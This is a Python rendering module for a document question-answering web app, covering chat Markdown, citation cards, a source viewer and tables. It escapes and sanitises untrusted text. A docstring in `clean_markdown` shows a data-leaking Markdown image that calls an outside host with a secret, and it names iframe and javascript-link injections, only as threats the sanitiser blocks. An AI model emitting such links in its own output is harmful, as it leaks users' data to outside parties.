"""HTML and Markdown for the web app: pure rendering functions, no Gradio, no I/O.

Everything that came from a document or an answer is untrusted: in HTML it is escaped (html.escape), and in
Markdown (the chat) images, links and HTML tags are stripped before the app adds its own citation links.
"""
from __future__ import annotations

import html
import re
from collections.abc import Iterable

from rag.answer.cite import describe_support
from rag.model import Answer, Citation, Document, Paragraph
from rag.nlp.text import neutralise

MARKER = re.compile(r"\[(\d{1,3})\]")
NOT_FOUND = "Not in the documents"
WEAK_EVIDENCE = "The documents only touch on this: read the sources"

def clean_markdown(text: str | None) -> str:
    """Markdown safe to render: the one sanitiser (rag/nlp/text.py `neutralise`: no images, no links (their text
    stays), no HTML, no control characters), then every "<" left escaped. A document or a model can write
    `![](http://host/?q=secret)`; rendered, that fetches the URL; or `<img>`, `<iframe>`, `<a href=javascript:...>`.
    None of that survives here. `[n]` markers are kept."""
    return neutralise(text).replace("<", "&lt;")


def plain(text: str | None) -> str:
    """Text for places that render no Markdown at all (HTML panels): sanitised, then escaped."""
    return html.escape(neutralise(text))


def cite_link(turn: int, n: int) -> str:
    """The href a [n] marker in the chat links to; the page script turns a click on it into a 'cite' event."""
    return f"#cite-{turn}-{n}"


def link_markers(markdown: str, turn: int, known: Iterable[int] | None = None) -> str:
    """[n] -> a Markdown link the page can catch (only markers that name a citation of this answer)."""
    known = set(known) if known is not None else None

    def sub(m: re.Match) -> str:
        n = int(m.group(1))
        if known is not None and n not in known:
            return m.group(0)
        return f"[\\[{n}\\]]({cite_link(turn, n)})"

    return MARKER.sub(sub, markdown)


def embolden(markdown: str, value: str) -> str:
    """The first occurrence of `value` (whitespace and case aside) in cleaned Markdown set in bold."""
    tokens = value.split()
    if not tokens:
        return markdown
    m = re.search(r"\s+".join(re.escape(t) for t in tokens), markdown) or \
        re.search(r"\s+".join(re.escape(t) for t in tokens), markdown, re.I)
    if not m or "*" in m.group(0):
        return markdown
    return f"{markdown[:m.start()]}**{m.group(0)}**{markdown[m.end():]}"


def short_line(answer: Answer) -> str:
    """The short answer as the chat shows it first: the value in bold, cited ('**4.6 million** [2]')."""
    short = answer.short_answer
    if not short:
        return ""
    value = " ".join(clean_markdown(short["text"]).replace("*", "").split())
    return f"**{value}** [{int(short['citation'])}]" if value else ""


def chat_markdown(answer: Answer, turn: int) -> str:
    """The assistant's chat message for one answer: cleaned Markdown with clickable [n] markers; a not-found
    answer starts with a banner line so it cannot be mistaken for an answer; where the answer is a value (the
    short answer), the value comes first, in bold, and is set in bold inside its quoted sentence too."""
    text = clean_markdown(answer.answer)
    short = short_line(answer)
    if short:
        text = f"{short}\n\n{embolden(text, answer.short_answer['text'])}"
    body = link_markers(text, turn, [c.n for c in answer.citations])
    if not answer.found:
        banner = f'<span class="rag-notfound">{NOT_FOUND}</span>'
        return f"{banner}\n\n{body}"
    if answer.weak_evidence:
        body = f'<span class="rag-weak">{WEAK_EVIDENCE}</span>\n\n{body}'
    if answer.disagreement and answer.positions:
        body += "\n\n_The positions are laid out side by side below the chat._"
    elif len(answer.positions) > 1:
        body += "\n\n_What each source says is laid out side by side below the chat._"
    return body


def chat_message(answer: Answer, turn: int, latest: bool = False) -> dict:
    """The assistant's chat message; the latest answer offers its follow-up questions as clickable options."""
    message = {"role": "assistant", "content": chat_markdown(answer, turn)}
    if latest and answer.follow_ups:
        message["options"] = [{"label": q, "value": q} for q in answer.follow_ups]
    return message


def answer_markdown(answer: Answer) -> str:
    """An answer as Markdown to paste elsewhere (the chat's copy button, "Copy with sources"): its text with
    each [n] as a footnote reference [^n], then one footnote per citation: title (date), ¶ label, page, how
    well it supports the sentence, and the quoted sentence."""
    known = {c.n for c in answer.citations}
    text = clean_markdown(answer.answer)
    if short_line(answer):
        text = f"{short_line(answer)}\n\n{text}"
    body = MARKER.sub(lambda m: f"[^{m.group(1)}]" if int(m.group(1)) in known else m.group(0), text).strip()
    if not answer.found:
        body = f"**{NOT_FOUND}.** {body}"
    elif answer.weak_evidence:
        body = f"> {WEAK_EVIDENCE}.\n\n{body}"
    notes = []
    for c in answer.citations:
        title = " ".join(neutralise(c.title).split()) + (f" ({neutralise(c.date)})" if c.date else "")
        where_ = [f"¶{neutralise(c.label)}"] + ([f"p. {int(c.page)}"] if c.page else [])
        support = describe_support(c.support)
        quote = " ".join(neutralise(c.quote or c.text).split())
        notes.append(f"[^{int(c.n)}]: *{title}*, {', '.join(where_)}{f' ({support})' if support else ''}: “{quote}”")
    return body + ("\n\n" + "\n".join(notes) if notes else "") + "\n"


def history_pairs(answers: list[Answer], limit: int = 6) -> list[tuple[str, str]]:
    """Previous (question, answer) pairs for a follow-up question."""
    return [(a.question, a.answer) for a in answers[-limit:]]


# ---------------------------------------------------------------------------------------------- citations
def where(c: Citation | Paragraph) -> str:
    """'¶9(8) · p. 3 · Social Credit system' (escaped)."""
    parts = [f"¶{html.escape(c.label)}"]
    if c.page:
        parts.append(f"p. {int(c.page)}")
    if c.section:
        parts.append(plain(c.section))
    return " · ".join(parts)


def support_badge(c: Citation) -> str:
    """'quoted' / 'close paraphrase' / 'partial', as a small tag (empty when the support is not known)."""
    words = describe_support(c.support)
    if not words:
        return ""
    return (f'<span class="rag-support rag-support-{_slug(words)}" title="How well ¶{html.escape(c.label)} '
            f'supports the sentence that cites it">{words}</span>')


def render_sources(answer: Answer | None, turn: int = 0, active: int | None = None) -> str:
    """The sources panel: one card per citation (title, date, ¶label, page, section, how well it supports its
    sentence, the quoted sentence). Each card is a button carrying data-turn / data-n; the page turns a click
    into a 'cite' event. "Copy with sources" (data-copy-turn) copies the answer with its footnotes."""
    if answer is None:
        return ('<div class="rag-sources rag-empty">Sources appear here after you ask a question. '
                'Click a source, or a [n] marker in the answer, to read it in its document.</div>')
    if not answer.citations:
        return (f'<div class="rag-sources rag-empty"><div class="rag-panel-title">Sources</div>'
                f'No passages in the documents answer “{plain(answer.question)}”.</div>')
    cards = []
    for c in answer.citations:
        date = f' <span class="rag-date">({html.escape(str(c.date))})</span>' if c.date else ""
        kind = '<span class="rag-tag">Recommendation</span> ' if c.kind == "recommendation" else ""
        quote = c.quote or c.text
        short = quote if len(quote) <= 400 else quote[:400].rsplit(" ", 1)[0] + " …"
        value = answer.short_answer["text"] if answer.short_answer and answer.short_answer["citation"] == c.n else None
        cls = "rag-source rag-active" if active == c.n else "rag-source"
        cards.append(
            f'<button type="button" class="{cls}" data-turn="{int(turn)}" data-n="{int(c.n)}" '
            f'title="Open ¶{html.escape(c.label)} in its document">'
            f'<span class="rag-n">[{int(c.n)}]</span>'
            f'<span class="rag-source-body">'
            f'<span class="rag-title">{plain(c.title)}{date}</span>'
            f'<span class="rag-where">{kind}{where(c)} {support_badge(c)}</span>'
            f'<span class="rag-quote">“{strong(plain(short), plain(value) if value else None)}”</span>'
            f'</span></button>')
    copy = (f'<button type="button" class="rag-copy" data-copy-turn="{int(turn)}" title="Copy the answer as '
            f'Markdown, its sources as footnotes">Copy with sources</button>')
    return (f'<div class="rag-sources"><div class="rag-panel-title">Sources for “{plain(answer.question)}”'
            f'<span class="rag-hint">click one to read it in its document</span>{copy}</div>{"".join(cards)}</div>')


def render_card(c: Citation) -> str:
    """The card shown beside an [n] marker on hover or focus: the quoted sentence, title, ¶ label, page, support."""
    quote = c.quote or c.text
    short = quote if len(quote) <= 300 else quote[:300].rsplit(" ", 1)[0] + " …"
    date = f' <span class="rag-date">({html.escape(str(c.date))})</span>' if c.date else ""
    page = f" · p. {int(c.page)}" if c.page else ""
    return (f'<div class="rag-card" data-n="{int(c.n)}"><div class="rag-card-quote">“{plain(short)}”</div>'
            f'<div class="rag-card-title">{plain(c.title)}{date}</div>'
            f'<div class="rag-card-where">¶{html.escape(c.label)}{page} {support_badge(c)}</div></div>')


def render_turns(answers: list[Answer] | None) -> str:
    """What the page needs about every answer of the conversation, kept out of sight: the hover cards of its
    citations and its Markdown with footnotes (data-md), looked up by turn and citation number."""
    parts = []
    for turn, a in enumerate(answers or []):
        cards = "".join(render_card(c) for c in a.citations)
        parts.append(f'<div class="rag-turn" data-turn="{turn}" data-md="{html.escape(answer_markdown(a))}">'
                     f'{cards}</div>')
    return f'<div class="rag-turns">{"".join(parts)}</div>'


def briefing_numbers(sources, answers: list[tuple[int, Answer]]) -> dict[int, tuple[int, int]]:
    """A briefing's source numbers (rag.app.briefing.Source: number, doc, label) -> the (turn, n) of the first
    citation of the conversation's answers ((turn, Answer) pairs) that names the same paragraph."""
    out = {}
    for source in sources:
        found = next(((turn, c.n) for turn, a in answers for c in a.citations
                      if c.doc == source.doc and c.label == source.label), None)
        if found:
            out[source.number] = found
    return out


def link_briefing_markers(markdown: str, numbers: dict[int, tuple[int, int]]) -> str:
    """A briefing's global [g] markers -> links to the answer and citation they stand for ((turn, n)), so that
    hovering one shows its card and clicking it opens the paragraph, as in the chat."""
    def sub(m: re.Match) -> str:
        target = numbers.get(int(m.group(1)))
        return f"[\\[{m.group(1)}\\]]({cite_link(*target)})" if target else m.group(0)

    return MARKER.sub(sub, markdown)


def render_positions(answer: Answer | None, turn: int = 0) -> str:
    """Where two or more sources answer: one column per source (its holder, date, what it says about the question,
    its sentences, its citation numbers), under a title that says whether they disagree."""
    if answer is None or len(answer.positions) < 2:
        return ""
    known = {c.n for c in answer.citations}
    columns = []
    for p in answer.positions:
        # a summary's own markers are kept only where they name this answer's citations
        summary_markers = {int(n) for n in MARKER.findall(p.summary or "")}
        summary = plain(p.summary)
        if summary_markers and summary_markers <= known:
            summary = MARKER.sub(lambda m: _marker_button(turn, int(m.group(1))), summary)
        else:
            summary = MARKER.sub("", summary).replace(" .", ".").strip()
        cites = " ".join(_marker_button(turn, n) for n in p.citations if n in known)
        date = f'<div class="rag-date">{html.escape(str(p.date))}</div>' if p.date else ""
        says = p.says[:1].upper() + p.says[1:] if p.says and p.says != "answers" else ""
        stance = (f'<span class="rag-stance rag-stance-{_slug(p.stance or "none")}">{plain(says)}</span>'
                  if says else "")
        holders = "".join(f"<li>{plain(h.strip())}</li>" for h in (p.holder or "").split(";") if h.strip())
        columns.append(
            f'<div class="rag-position"><div class="rag-position-head">{stance}{date}</div>'
            f'<ul class="rag-holders">{holders}</ul>'
            f'<p class="rag-summary">{summary}</p>'
            f'<div class="rag-position-cites">Sources: {cites or "none"}</div></div>')
    title = (f"The sources disagree on “{plain(answer.question)}”: positions side by side" if answer.disagreement
             else f"What each source says on “{plain(answer.question)}”")
    flag = " rag-disagree" if answer.disagreement else ""
    return (f'<div class="rag-positions{flag}" data-turn="{int(turn)}"><div class="rag-panel-title">{title}</div>'
            f'<div class="rag-position-row">{"".join(columns)}</div></div>')


def _marker_button(turn: int, n: int) -> str:
    return f'<button type="button" class="rag-marker" data-turn="{int(turn)}" data-n="{int(n)}">[{int(n)}]</button>'


def _slug(text: str | None) -> str:
    return re.sub(r"[^a-z0-9]+", "-", (text or "").lower()).strip("-") or "none"


# ---------------------------------------------------------------------------------------------- document viewer
def strong(escaped: str, value: str | None) -> str:
    """Escaped HTML with the first occurrence of the (escaped) value wrapped in <strong class="rag-value">."""
    if not value or not value.split():
        return escaped
    pattern = r"\s+".join(re.escape(t) for t in value.split())
    m = re.search(pattern, escaped) or re.search(pattern, escaped, re.I)
    if not m:
        return escaped
    return f'{escaped[:m.start()]}<strong class="rag-value">{m.group(0)}</strong>{escaped[m.end():]}'


def highlight(text: str, quote: str | None, value: str | None = None) -> str:
    """The paragraph escaped, with the quoted sentence(s) wrapped in <mark>, and in them the short answer's value
    (where there is one) in <strong>. Whitespace and case may differ."""
    if not quote:
        return strong(html.escape(text), html.escape(value) if value else None)
    spans: list[tuple[int, int]] = []
    for part in re.split(r"\s*(?:…|\.\.\.)\s*", quote):
        tokens = part.split()
        if not tokens:
            continue
        pattern = r"\s*".join(re.escape(t) for t in tokens)
        m = re.search(pattern, text) or re.search(pattern, text, re.I)
        if m and m.end() > m.start():
            spans.append((m.start(), m.end()))
    if not spans:
        return html.escape(text)
    spans.sort()
    out, pos = [], 0
    for start, end in spans:
        if start < pos:
            continue
        out.append(html.escape(text[pos:start]))
        marked = strong(html.escape(text[start:end]), html.escape(value) if value else None)
        if value and marked != html.escape(text[start:end]):
            value = None  # shown once
        out.append(f"<mark>{marked}</mark>")
        pos = end
    out.append(html.escape(text[pos:]))
    return "".join(out)


def render_document(paragraphs: list[Paragraph], focus_id: str | None, quote: str | None = None,
                    context: int | None = 3, document: Document | None = None, value: str | None = None) -> str:
    """The paragraph in its document: `context` paragraphs above and below (None: the whole document; footnotes
    are left out of a window unless they are the focus), the focus paragraph framed and its quote in <mark>."""
    if not paragraphs:
        return '<div class="rag-viewer rag-empty">This document is no longer in the library.</div>'
    focus = next((i for i, p in enumerate(paragraphs) if p.id == focus_id), None)
    if context is None or focus is None:
        shown = list(range(len(paragraphs)))
    else:
        body = [i for i, p in enumerate(paragraphs) if p.kind != "footnote" or i == focus]
        k = body.index(focus)
        shown = body[max(0, k - context):k + context + 1]
    rows = []
    if focus is not None and paragraphs[focus].context and context is not None:
        intro = paragraphs[focus].context.strip()
        if not any(paragraphs[i].text.strip().startswith(intro[:60]) for i in shown):
            rows.append(f'<div class="rag-context"><span>Introduced by</span> “{html.escape(intro)}”</div>')
    if shown and shown[0] > 0:
        rows.append(f'<div class="rag-more">… {shown[0]} paragraph{"s" if shown[0] != 1 else ""} above</div>')
    for i in shown:
        p = paragraphs[i]
        is_focus = i == focus
        text = highlight(p.text, quote, value) if is_focus else html.escape(p.text)
        if p.kind == "heading":
            rows.append(f'<div class="rag-doc-heading{" rag-focus" if is_focus else ""}">{text}</div>')
            continue
        label = "" if p.label.startswith("p") and p.label[1:].isdigit() else f"¶{html.escape(p.label)}"
        cls = f"rag-para rag-kind-{_slug(p.kind)}" + (" rag-focus" if is_focus else "")
        page = f'<span class="rag-page">p. {int(p.page)}</span>' if p.page else ""
        rows.append(f'<div class="{cls}" data-pid="{html.escape(p.id)}"><div class="rag-label">{label}{page}</div>'
                    f'<div class="rag-text">{text}</div></div>')
    below = len(paragraphs) - 1 - shown[-1] if shown else 0
    if below > 0:
        rows.append(f'<div class="rag-more">… {below} paragraph{"s" if below != 1 else ""} below</div>')
    head = ""
    if document is not None:
        date = f" ({html.escape(document.date)})" if document.date else ""
        head = f'<div class="rag-doc-title">{plain(document.title)}{date}</div>'
    if focus is not None:
        p = paragraphs[focus]
        head += f'<div class="rag-doc-where">{where(p)}</div>'
    head = f'<div class="rag-doc-head">{head}</div>' if head else ""
    return f'<div class="rag-viewer">{head}{"".join(rows)}</div>'


def viewer_placeholder() -> str:
    return ('<div class="rag-viewer rag-empty">Click a source or a [n] marker to read the passage in its '
            'document, with the quoted sentence highlighted.</div>')


# ---------------------------------------------------------------------------------------------- tables
def document_rows(documents: list[Document]) -> list[list]:
    return [[d.title, d.date or "", d.format, d.paragraphs, (d.added or "").replace("T", " "),
             ", ".join(source_name(s) for s in d.sources)] for d in documents]


def source_name(source: str) -> str:
    """How a document's file is shown: uploads by their name in the uploads folder, others by file name only
    (no server paths in the page)."""
    return source if source.startswith("uploads/") else re.split(r"[/\\]", source)[-1]


def document_choices(documents: list[Document]) -> list[tuple[str, str]]:
    """(label, doc_id) for dropdowns; titles can repeat, so the label carries the year and a short id."""
    out = []
    for d in documents:
        label = d.title + (f" ({d.date})" if d.date else "")
        if sum(1 for o in documents if o.title == d.title) > 1:
            label += f" [{d.doc_id[:6]}]"
        out.append((label, d.doc_id))
    return out


def render_ingest_report(reports) -> str:
    """The per-file report after an upload: status, paragraphs, and for a failure the reason and what to do."""
    if not reports:
        return ""
    rows = []
    for r in reports:
        ok = r.status != "failed"
        why = "" if ok else " ".join(x for x in (html.escape(r.reason or ""), html.escape(r.hint or "")) if x)
        if ok and r.status == "unchanged":
            why = "already in the library"
        rows.append(f'<tr><td><span class="rag-status rag-status-{_slug(r.status)}">{html.escape(r.status)}</span>'
                    f'</td><td>{plain(r.path)}</td><td>{plain(r.title) if ok else ""}</td>'
                    f'<td class="rag-num">{r.paragraphs if ok else "–"}</td><td>{why}</td></tr>')
    return ('<table class="rag-report"><thead><tr><th>Status</th><th>File</th><th>Title</th><th>Paragraphs</th>'
            f'<th>Note</th></tr></thead><tbody>{"".join(rows)}</tbody></table>')


def render_settings(store: str, composer: str, model_server: str | None) -> str:
    server = html.escape(model_server) if model_server else "none (answers are built from the documents' sentences)"
    return (f'<div class="rag-settings">Library: <code>{html.escape(store)}</code> · Answers: '
            f'<b>{html.escape(composer)}</b> · Model server: {server}</div>')
